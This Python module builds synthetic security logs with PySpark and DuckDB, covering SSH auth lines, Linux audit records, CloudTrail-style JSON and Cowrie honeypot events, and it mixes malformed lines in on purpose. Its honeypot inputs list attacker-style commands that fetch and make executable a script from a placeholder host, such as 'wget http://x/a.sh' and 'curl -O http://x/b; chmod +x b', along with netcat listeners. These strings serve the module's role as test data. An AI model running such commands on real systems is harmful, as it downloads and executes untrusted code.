"""Log lines derived from the `events` table, for queries that need raw logs as input.

The expressions are written once and rendered for Spark and for DuckDB, so that both sides of a
comparison read the same lines. They use every event; odd lines (bad times, bad addresses, missing
records, broken JSON) are mixed in by event number.
"""

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F


YEAR = 2024

_SPARK = {
    "iso": "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss.SSSSSS\")",
    "isos": "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss\")",
    "mon": "date_format(ts, 'MMM')",
    "hms": "date_format(ts, 'HH:mm:ss')",
    "us": "unix_micros(ts)",
    "div": "div",
    "text": "string",
}
_DUCKDB = {
    "iso": "strftime(ts, '%Y-%m-%dT%H:%M:%S.%f')",
    "isos": "strftime(ts, '%Y-%m-%dT%H:%M:%S')",
    "mon": "strftime(ts, '%b')",
    "hms": "strftime(ts, '%H:%M:%S')",
    "us": "epoch_us(ts)",
    "div": "//",
    "text": "varchar",
}


def _t(expression: str) -> str:
    return f"cast({expression} as {{text}})"


def _item(names: list[str], index: str) -> str:
    """The index-th (0-based) of some texts without '|'."""
    joined = "|".join(names)
    return f"split_part('{joined}', '|', cast({index} + 1 as int))"


# --- authentication log --------------------------------------------------------------------------
_IP = f"'10.0.' || {_t('user_id {div} 256')} || '.' || {_t('user_id % 256')}"
_BAD_IP = f"case when event_id % 50 = 13 then '10.0.999.1' else {_IP} end"
_SYSLOG = f"{{mon}} || ' ' || lpad({_t('day(ts)')}, 2, ' ') || ' ' || {{hms}}"
_AUTH_TIME = (
    "case when event_id % 50 = 7 then 'Foo 99 10:00:00' "
    f"when event_id % 2 = 0 then {_SYSLOG} else {{iso}} || '+00:00' end"
)
_PORT = f"' port ' || {_t('1024 + event_id % 60000')} || ' ssh2'"
_PID = f"'[' || {_t('100 + event_id % 900')} || ']: '"
_USERS = ["root", "admin", "ubuntu", "deploy", "backup", "guest", "oracle"]
_NEW_USERS = ["attacker", "support", "bob", "sysadmin", "eve"]
_AUTH_TEXT = f"""case event_type
  when 'error' then 'sshd' || {_PID} || 'Failed password for '
    || case when event_id % 3 = 0 then 'invalid user ' else '' end
    || {_item(_USERS, 'event_id % 7')} || ' from ' || {_BAD_IP} || {_PORT}
  when 'purchase' then 'sshd' || {_PID} || 'Accepted '
    || case when event_id % 2 = 0 then 'password' else 'publickey' end || ' for '
    || {_item(_USERS, 'event_id % 7')} || ' from ' || {_BAD_IP} || {_PORT}
  when 'signup' then 'useradd' || {_PID} || 'new user: name=' || {_item(_NEW_USERS, 'event_id % 5')}
    || ', UID=' || {_t('1000 + user_id')} || ', GID=1001, home=/home/x'
  when 'click' then 'sudo' || {_PID} || '  ' || {_item(_USERS, 'event_id % 7')}
    || ' : TTY=pts/0 ; PWD=/home/ubuntu ; USER=root ; COMMAND=/usr/sbin/useradd u'
    || {_t('event_id % 10')} || ' '
  else case event_id % 4 when 0 then 'sshd' || {_PID} || 'Invalid user bob from 10.1.1.1 port 22'
    when 1 then 'useradd: new user added by admin' else 'systemd: session opened' end
  end"""
AUTH_LINE = f"{_AUTH_TIME} || ' host' || {_t('user_id % 5')} || ' ' || {_AUTH_TEXT}"

# --- kernel audit --------------------------------------------------------------------------------
_PROGRAMS = [
    ("whoami", "/usr/bin/whoami"),
    ("id", "/usr/bin/id"),
    ("cat", "/usr/bin/cat"),
    ("passwd", "/usr/bin/passwd"),
    ("sshd", "/tmp/sshd"),
    ("sshd", "/tmp/evil"),
    ("sh", "/usr/bin/dash"),
    ("script.py", "/usr/bin/python3.11"),
    ("unattended-upgr", "/usr/bin/unattended-upgrades"),
    ("uname", "/usr/bin/uname"),
    ("ps", "/usr/bin/ps"),
    ("find", "/usr/bin/find"),
    ("vim", "/usr/bin/vim.basic"),
    ("df", "/usr/bin/df"),
    ("", "/usr/bin/x"),
    ("getent", "/usr/bin/getent"),
]
_KEYS = [
    "shadow_access", "cron_modification", "auditd_tamper", "auditd_rules_tamper",
    "syslog_tamper", "bootloader_tamper", "sudoers_tamper", "sudo_execution", "su_execution",
    "privilege_change", "shadow_access", "cron_modification", "other",
]
_NAMES = [
    "/etc/shadow", "/etc/passwd", "/etc/group", "/etc/sudoers", "/etc/crontab", "/var/log/x",
    "/etc/hosts", "/boot/grub/grub.cfg", "",
]
_AUDIT_ID = (
    f"'msg=audit(' || {_t('{us} {div} 1000000')} || '.' || "
    f"lpad({_t('({us} {div} 1000) % 1000')}, 3, '0') || ':' || {_t('event_id + 1000')} || '): '"
)
_AUID = (
    "case when event_id % 41 = 40 then 'unset' when event_id % 11 = 0 then '0' "
    f"when event_id % 11 = 1 then '4294967295' else {_t('1000 + user_id % 7')} end"
)
_EUID = "case when event_id % 3 = 0 then '0' else '1000' end"
_SYSCALL_LINE = f"""'type=SYSCALL ' || {_AUDIT_ID} || 'arch=c000003e '
  || case when event_id % 40 = 39 then '' else 'syscall=' || {_item(['257', '2', '82', '86', '59'], 'event_id % 5')} || ' ' end
  || 'success=' || case when event_id % 10 = 9 then 'no' else 'yes' end
  || ' exit=3 a0=7f items=1 ppid=' || {_t('event_id % 100')} || ' pid=' || {_t('2000 + event_id % 3000')}
  || ' auid=' || {_AUID} || ' uid=1000 euid=' || {_EUID} || ' tty=pts0 ses=1 ses=2 comm="'
  || {_item([p[0] for p in _PROGRAMS], 'event_id % 16')} || '" exe="'
  || {_item([p[1] for p in _PROGRAMS], 'event_id % 16')} || '" key='
  || case when event_id % 13 = 12 then '(null)' else '"' || {_item(_KEYS, 'event_id % 13')} || '"' end
  || chr(29) || 'ARCH=x86_64 SYSCALL=openat AUID="ubuntu"'"""
_PATH_LINE = (
    f"'type=PATH ' || {_AUDIT_ID} || 'item=0 name=\"' || {_item(_NAMES, 'event_id % 9')} || "
    "'\" inode=5 nametype=NORMAL'"
)
# (condition, place within the event, line)
AUDIT_LINES = [
    ("event_id % 37 <> 36", 0, _SYSCALL_LINE),
    ("event_id % 4 = 0", 1, f"'type=CWD ' || {_AUDIT_ID} || 'cwd=\"/root\" name=\"no\"'"),
    ("event_id % 4 = 1", 1, "'type=DAEMON_START op=start ver=3.0'"),
    ("event_id % 9 <> 8", 2, _PATH_LINE),
    ("event_id % 6 = 0", 3, f"'type=PATH ' || {_AUDIT_ID} || 'item=1 name=\"/second\"'"),
]

# --- cloud API records ---------------------------------------------------------------------------
_EVENT_NAMES = [
    "ConsoleLogin", "ConsoleLogin", "DeleteTrail", "StopLogging", "UpdateTrail",
    "PutEventSelectors", "DescribeMetricFilters", "ListBuckets",
]
_IDENTITY = f"""case event_id % 5
  when 3 then '"type":"Root"'
  when 4 then '"type":"AWSService","principalId":"AROA:svc' || {_t('user_id % 5')} || '"'
  when 2 then '"type":"AssumedRole",' || case when event_id % 2 = 0
    then '"sessionIssuer":{{"userName":"role' || {_t('user_id % 5')} || '"}}'
    else '"userName":"","principalId":"AROB:sess' || {_t('user_id % 5')} || '"' end
  else '"type":"IAMUser","userName":"user' || {_t('user_id % 20')} || '"' end"""
_SESSION = """case when event_id % 12 = 11 then '' when event_id % 3 = 0
  then ',"sessionContext":{"attributes":{"mfaAuthenticated":"false"}}'
  when event_id % 3 = 1 then ',"sessionContext":{"attributes":{"mfaAuthenticated":"True"}}'
  else '' end"""
_ADDITIONAL = """case when event_id % 3 = 2 and event_id % 12 <> 11 then
  case when event_id % 2 = 0 then ',"additionalEventData":{"MFAUsed":"No"}'
  else ',"additionalEventData":{"MFAUsed":"Yes"}' end else '' end"""
_RESPONSE = """case event_id % 4 when 3 then ',"responseElements":null'
  when 2 then ',"responseElements":{"ConsoleLogin":"Failure"}'
  else ',"responseElements":{"ConsoleLogin":"Success"}' end"""
_ERROR = """case event_id % 6 when 5 then ',"errorCode":"AccessDenied"'
  when 4 then ',"errorCode":null' else '' end"""
CLOUD_LINE = f"""'{{"eventVersion":"1.11","userIdentity":{{' || {_IDENTITY} || {_SESSION} || '}},"eventTime":"'
  || case when event_id % 50 = 7 then 'not-a-time' else {{isos}} || 'Z' end
  || '","eventSource":"signin.amazonaws.com","eventName":'
  || case when event_id % 50 = 13 then 'null' else '"' || {_item(_EVENT_NAMES, 'event_id % 8')} || '"' end
  || ',"awsRegion":"us-east-1","sourceIPAddress":"' || {_IP} || '","userAgent":"cli/2","readOnly":'
  || case when event_id % 2 = 0 then 'true' else 'false' end
  || {_RESPONSE} || {_ADDITIONAL} || {_ERROR} || ',"unknownField":' || {_t('event_id')} || '}}'"""

# --- honeypot ------------------------------------------------------------------------------------
_INPUTS = [
    "whoami", "wget http://x/a.sh", "curl -O http://x/b; chmod +x b", "echo notwgetreally",
    "nc -l 1 && ncat 2", "ls -la", "chmod  +x a.sh",
]
_POT_EVENT = """case event_type when 'error' then 'cowrie.login.failed'
  when 'purchase' then 'cowrie.login.success' when 'signup' then 'cowrie.session.connect'
  when 'click' then 'cowrie.command.input' else 'cowrie.session.closed' end"""
_POT_TAIL = f"""case event_type
  when 'click' then ',"input":"' || {_item(_INPUTS, 'event_id % 7')} || '"'
  when 'view' then ',"duration_ms":' || {_t('event_id * 3')}
  when 'signup' then ''
  else ',"username":"' || {_item(_USERS, 'event_id % 7')} || '","password":"pw' || {_t('event_id % 100')} || '"' end"""
POT_LINE = f"""case when event_id % 101 = 5 then '{{"session":' else
  '{{"session":"' || case when event_id % 97 = 3 then '' else 's' || {_t('user_id')} || '-' || {_t('day(ts) {div} 3')} end
  || '","src_ip":"' || {_IP} || '","eventid":"' || {_POT_EVENT} || '","timestamp":"' || {{iso}}
  || 'Z"' || {_POT_TAIL} || '}}' end"""


def render(expression: str, dialect: str) -> str:
    for name, text in (_SPARK if dialect == "spark" else _DUCKDB).items():
        expression = expression.replace("{" + name + "}", text)
    return expression


def read_base(spark: SparkSession, folder: str) -> DataFrame:
    """The events that log lines are made of, dealt out by id at every size alike: a row of the
    table becomes several long lines."""
    events = spark.read.parquet(f"{folder}/events.parquet")
    tasks = int(spark.conf.get("spark.sql.shuffle.partitions"))
    return events.withColumn("ts", F.col("ts").cast("timestamp")).repartition(tasks, "event_id")


def _lines(base: DataFrame, expression: str) -> DataFrame:
    return base.select(
        F.col("event_id").alias("seq"), F.expr(render(expression, "spark")).alias("value")
    )


def auth_lines(base: DataFrame) -> DataFrame:
    return _lines(base, AUTH_LINE)


def audit_lines(base: DataFrame) -> DataFrame:
    made = [
        F.when(
            F.expr(condition),
            F.struct(
                (F.col("event_id") * 4 + place).alias("seq"),
                F.expr(render(line, "spark")).alias("value"),
            ),
        )
        for condition, place, line in AUDIT_LINES
    ]
    return base.select(F.explode(F.array_compact(F.array(*made))).alias("l")).select("l.*")


def cloud_lines(base: DataFrame) -> DataFrame:
    return _lines(base, CLOUD_LINE)


def honeypot_lines(base: DataFrame) -> DataFrame:
    return _lines(base, POT_LINE)
